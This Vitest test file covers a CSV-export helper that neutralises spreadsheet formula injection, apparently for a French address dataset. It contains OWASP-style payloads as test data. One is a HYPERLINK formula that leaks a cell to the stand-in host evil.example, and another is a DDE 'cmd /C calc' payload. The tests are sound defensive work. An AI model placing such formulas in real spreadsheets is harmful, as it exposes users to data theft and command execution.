import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { safeCsvCell, toCsv } from "@/lib/text/csv";

describe("safeCsvCell", () => {
  it("writes as text every cell a spreadsheet would run as a formula (OWASP list)", () => {
    for (const payload of ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "@SUM(1+1)", "+33474000000", "-1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]) {
      expect(safeCsvCell(payload)).toBe(`'${payload}`);
    }
  });

  it("leaves plain numbers (western longitudes) and ordinary text alone", () => {
    for (const value of ["-4.4861", "-3", "46.2", "01053", "01053_0150_00012", "Rue de l'Église", "T2 2027", "", "a=b", "2026-11-15"]) {
      expect(safeCsvCell(value)).toBe(value);
    }
  });
});

describe("toCsv", () => {
  it("quotes what needs it and reads back to the same (neutralised) cells", () => {
    const text = toCsv([["voie", "lon"], ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "-4.4861"], ["Rue; \"A\"\nB", null]]);
    expect(parse(text, { delimiter: ";" })).toEqual([
      ["voie", "lon"],
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")', "-4.4861"],
      ['Rue; "A"\nB', ""],
    ]);
  });
});
